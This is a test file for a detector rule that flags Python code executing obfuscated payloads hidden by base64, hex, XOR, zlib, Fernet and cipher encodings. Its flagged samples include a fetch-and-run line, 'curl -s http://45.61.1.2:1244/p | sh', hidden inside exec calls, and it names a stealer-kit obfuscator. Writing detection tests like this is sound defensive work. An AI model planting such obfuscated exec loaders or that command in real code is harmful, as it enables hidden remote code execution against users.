import { ruleTest } from '../../testing/rule-tester.js';
import { createCipheriv, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import rule from './py-exec-encoded-payload.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const inner = `import os\nos.system("curl -s http://45.61.1.2:1244/p | sh")\n`;
const packed = deflateSync(Buffer.from(b64(inner))).toString('base64').split('').reverse().join('');

// A Fernet token built the way cryptography.fernet does (HMAC left zero: the decoder does not need it).
const fkey = Buffer.alloc(32, 7);
const iv = randomBytes(16);
const c = createCipheriv('aes-128-cbc', fkey.subarray(16), iv);
const ct = Buffer.concat([c.update('import os; os.system("id")'), c.final()]);
const token = Buffer.concat([Buffer.from([0x80]), Buffer.alloc(8), iv, ct, Buffer.alloc(32)]).toString('base64url');

const hexXor = (s: string, key: string) => Buffer.from([...Buffer.from(s)].map((b, i) => b ^ Buffer.from(key, 'hex')[i % (key.length / 2)]!)).toString('hex');

ruleTest(rule, {
  clean: [
    {
      name: 'an icon kept as base85 and written to a .png (data, not code)',
      file: 'assets.py',
      code: "import base64\nICON = 'iBL{Q4GJ0x009C61O)~M2nh-c3=Iws5D^j+6crX17#SKH9337XAR!_nBqb&%'\nwith open('icon.png', 'wb') as f:\n    f.write(base64.b85decode(ICON))\n",
    },
    { name: 'getattr of a module function by a literal name, result not executed', file: 'g.py', code: `import base64\nf = getattr(base64, "b64encode")\nprint(f(b"x"))\n` },
    { name: 'a lookup-table comprehension that is printed, not executed', file: 'tbl.py', code: `import string\nA = string.ascii_letters\nB = A[::-1]\nprint("".join([B[A.index(c)] if c in B else c for c in "Svool"]))\n` },
    { name: 'setup.py reads its version with exec of a file', file: 'setup.py', code: `about = {}\nwith open('pkg/__version__.py') as f:\n    exec(f.read(), about)\nsetup(name='pkg', version=about['__version__'])\n` },
    { name: 'six exec_ of a literal', file: 'six.py', code: `exec_("""def reraise(tp, value, tb=None):\n    raise tp, value, tb\n""")\n` },
    { name: 'email library base64 without exec', file: 'email/encoders.py', code: `from base64 import encodebytes as _bencode\ndef encode_base64(msg):\n    orig = msg.get_payload(decode=True)\n    encdata = str(_bencode(orig), 'ascii')\n    msg.set_payload(encdata)\n` },
    { name: 'pickle/json loads not executed', file: 'a.py', code: `import json, base64\ndata = json.loads(base64.b64decode(s))\n` },
    { name: 'eval of a literal expression', file: 'b.py', code: `x = eval("1 + 2")\n` },
    { name: 'base64 image asset written to disk', file: 'assets.py', code: `import base64\nICON = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="\nwith open("icon.png", "wb") as f:\n    f.write(base64.b64decode(ICON))\n` },
    { name: 'builtin looked up by a plain name (type registry)', file: 'types_.py', code: `import builtins\nname = cfg.get("type", "int")\nvalue = getattr(builtins, name)(raw)\n` },
    { name: 'code generation: exec of source built from field names (dataclass-style)', file: 'gen.py', code: `def make_init(fields, ns):\n    args = ", ".join(fields)\n    body = "\\n".join(f"    self.{f} = {f}" for f in fields)\n    h = 0\n    for f in fields:\n        h = (h * 31) ^ hash(f)\n    src = f"def __init__(self, {args}):\\n{body}\\n"\n    exec(src, ns)\n` },
    { name: 'compiled cache read back through one decompress (a single decoder a few steps away)', file: 'cache.py', code: `import zlib\ndef load(path, ns):\n    with open(path, 'rb') as f:\n        raw = zlib.decompress(f.read())\n    src = raw.decode()\n    code = compile(src, path, 'exec')\n    exec(code, ns)\n` },
  ],
  flagged: [
    {
      name: 'exec picked from __builtins__ by a folded name in a conditional, run on codecs.decode(hex)',
      file: 'shopcart/metrics.py',
      code: `import codecs\n_BOOT = ("${Buffer.from("import os\nos.system('id')\n").toString('hex')}")\ndef prime():\n    name = "ex" + "ec"\n    run = __builtins__[name] if isinstance(__builtins__, dict) else getattr(__builtins__, name)\n    run(codecs.decode(_BOOT, "hex").decode())\n`,
      findings: [{ line: 6, severity: 'critical', decoded: /os\.system\('id'\)/, message: /hex/ }],
    },
    {
      name: 'packed lambda one-liner: exec of zlib(b85decode(reversed)) (pyobfuscate style)',
      file: 'assessment/runner.py',
      code: "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b85decode(__[::-1]));exec((_)(b'KYg-VFdP&((zF7Q_SxJ(V$hBG(J@tGH2Xi)Ja_$(hqC@CTQE@&YJl-E!sBD&|GH}t{Ri}$maGOQ_nyyE3}~$c'))\n",
      findings: [{ line: 1, severity: 'critical', decoded: /curl -s http:\/\/45\.61\.1\.2:1244/, message: /reverse → base85 → zlib/ }],
    },
    {
      name: 'exec of a85decode',
      file: 'pkg/__init__.py',
      code: "import base64\nexec(base64.a85decode('Bl.g-Ec`FBEsci,/ou;ZFCf;;,%Gb9C`k<N+D>k=E&oX*1c6mD0eP151-.-F1c-k)+FG;QBHel4'))\n",
      findings: [{ line: 2, severity: 'critical', decoded: /os\.system/, message: /ascii85/ }],
    },
    {
      name: 'hex blob XORed with a key passed in, exec a few assignments later',
      file: 'pkg/edt/helper.py',
      code: `import requests\nBLOB = '${hexXor('import os\nos.system("id")\n', 'a1b2c3d4e5f6')}'\ndef start(k):\n    enc = bytearray.fromhex(BLOB)\n    key = bytearray.fromhex(k)\n    out = bytearray([enc[i] ^ key[i % 6] for i in range(len(enc))])\n    code = out.decode('ascii').replace('HOST', 'example.invalid')\n    exec(code)\n`,
      findings: [{ line: 8, message: /2 chained decoders \((?:fromhex, xor|xor, fromhex)\)/, confidence: 'high', severity: 'critical' }],
    },
    {
      name: 'exec of base64',
      file: 'setup.py',
      code: `import base64\nexec(base64.b64decode("${b64(inner)}"))\n`,
      findings: [{ line: 2, decoded: /curl -s http:\/\/45\.61\.1\.2:1244/, message: /base64/ }],
    },
    {
      name: 'pyobfuscate lambda, reversed base64 of zlib',
      file: 'x.py',
      code: `_ = lambda __ : __import__('base64').b64decode(__import__('zlib').decompress(__import__('base64').b64decode(__[::-1])));exec((_)(b'${packed}'))\n`,
      findings: [{ line: 1, decoded: /os\.system/, message: /reverse → base64 → zlib/ }],
    },
    {
      name: 'exec(bytes.fromhex(...)) through an alias',
      file: 'y.py',
      code: `from builtins import exec as run\npayload = "${Buffer.from('print(1)').toString('hex')}"\nrun(bytes.fromhex(payload).decode())\n`,
      findings: [{ line: 3, decoded: 'print(1)' }],
    },
    {
      name: 'XOR helper with a literal key',
      file: 'z.py',
      code: `import base64\ndef d(data, key):\n    return bytes([b ^ ord(key[i % len(key)]) for i, b in enumerate(data)])\nexec(d(base64.b64decode("${Buffer.from([...'print(2)'].map((c, i) => c.charCodeAt(0) ^ 'k3y'.charCodeAt(i % 3))).toString('base64')}"), "k3y"))\n`,
      findings: [{ line: 4, decoded: 'print(2)', message: /xor/ }],
    },
    {
      name: 'marshal blob executed, not decodable',
      file: 'm.py',
      code: `import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))\n`,
      findings: [
        { line: 2, message: /exec\(\) runs data that passes through 2 chained decoders/, confidence: 'high' },
        { line: 2, message: /marshal\.loads/ },
      ],
    },
    {
      name: 'PyArmor',
      file: 'main.py',
      code: `from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')\n`,
      findings: [{ line: 1, severity: 'high' }],
    },
    {
      name: 'Fernet-encrypted payload with the key beside it',
      file: 'setup.py',
      code: `from cryptography.fernet import Fernet\nexec(Fernet(b'${fkey.toString('base64url')}').decrypt(b'${token}'))\n`,
      findings: [{ line: 2, decoded: 'import os; os.system("id")', message: /fernet/ }],
    },
    {
      name: 'decoded code written to disk through a helper',
      file: 'setup.py',
      code: `from base64 import b64decode\ndef b64(code):\n    return b64decode(code.encode('utf8')).decode('utf8')\nwith open(path, 'w') as f:\n    f.write(b64('${Buffer.from('import subprocess\nsubprocess.Popen("x")').toString('base64')}'))\n`,
      findings: [{ line: 5, message: /Writes code hidden by base64 to a file/, decoded: /^import subprocess/ }],
    },
    {
      name: 'eval of a name split into fragments',
      file: 'setup.py',
      code: `f = eval("o"+'s.s' +"y" +'s'+"te" +'m')\nf("id")\n`,
      findings: [{ line: 1, decoded: 'os.system', message: /assembled from fragments/ }],
    },
    {
      name: 'exec name rebuilt from char codes',
      file: 'x.py',
      code: `eval("".join(chr(i) for i in [101,120,101,99]))(code)\n`,
      findings: [{ line: 1, decoded: 'exec', message: /decoded by chr/ }],
    },
    {
      name: 'builtin whose name is itself decoded, called on a base64 payload',
      file: 'load.py',
      code: `import base64, builtins\nparts = ['ZQ==', 'eA==', 'ZQ==', 'Yw==']\nname = ''.join(base64.b64decode(n).decode() for n in parts)\ngetattr(builtins, name)(base64.b64decode("cHJpbnQoMSk=").decode())\n`,
      findings: [{ line: 4, message: /exec\(\) runs code decoded by base64/, severity: 'critical' }],
    },
    {
      name: 'stealer-kit obfuscator banner',
      file: 'Spooky/__init__.py',
      code: `# Obfuscated with BlankOBF\n# https://github.com/Blank-c/BlankOBF\n_ = lambda c: c\nexec(_(bytes.__add__(a, b)))\n`,
      findings: [{ line: 1, severity: 'critical', confidence: 'high', message: /BlankOBF/ }],
    },
    {
      name: 'exec of a string decoded by a substitution cipher (atbash over ascii_letters)',
      file: 'dist_util.py',
      code: `import string\na_l = string.ascii_letters\nr_l = a_l[::-1]\ntry:\n\texec("".join([r_l[a_l.index(c)] if c in r_l else c for c in "RNKLIG LH;LH.HBHGVN(\\"RW\\")"]))\nexcept:\n\tpass\n`,
      findings: [{ line: 5, severity: 'critical', confidence: 'high', decoded: 'import os;os.system("id")', message: /decoded by substitution/ }],
    },
    {
      name: 'decoder named by getattr(__import__(bytes([...]).decode()), bytes([...]).decode())',
      file: 'requests/call.py',
      code: `x = eval(getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), bytes([98, 54, 52, 100, 101, 99, 111, 100, 101]).decode())(bytes([99, 72, 74, 112, 98, 110, 81, 111, 77, 83, 107, 61])).decode())\n`,
      findings: [{ line: 1, severity: 'critical', decoded: 'print(1)', message: /eval\(\) runs code decoded by bytes → base64/ }],
    },
    {
      name: 'exec of a Caesar-shifted string',
      file: 'c.py',
      code: `exec(''.join(chr(ord(c) - 3) for c in "lpsruw#rv>rv1v|vwhp+%lg%,"))\n`,
      findings: [{ line: 1, severity: 'critical', decoded: 'import os;os.system("id")', message: /decoded by shift/ }],
    },
    {
      name: 'exec of a string translated through str.maketrans',
      file: 't.py',
      code: `T = str.maketrans("nopqrstuvwxyzabcdefghijklm", "abcdefghijklmnopqrstuvwxyz")\nexec("vzcbeg bf".translate(T))\n`,
      findings: [{ line: 2, severity: 'critical', decoded: 'import os', message: /decoded by substitution/ }],
    },
  ],
});
